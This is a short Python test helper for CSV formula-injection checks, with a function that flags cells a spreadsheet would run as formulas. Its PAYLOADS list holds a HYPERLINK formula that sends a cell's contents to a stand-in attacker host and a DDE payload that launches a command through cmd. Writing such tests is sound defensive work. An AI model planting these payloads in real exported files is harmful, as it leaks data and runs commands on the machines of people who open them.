"""What the formula-injection tests assert of a file a person opens: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import re

#: OWASP CSV injection: the characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

#: Free text a clumsy user or an attacker types: each starts like a formula or with the escape.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "'already quoted",
    "''",
)


def live_formulas(text: str) -> list[str]:
    """The cells of CSV ``text`` a spreadsheet would run: start like a formula and are not a number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_START) and not _NUMBER.fullmatch(cell)
    ]
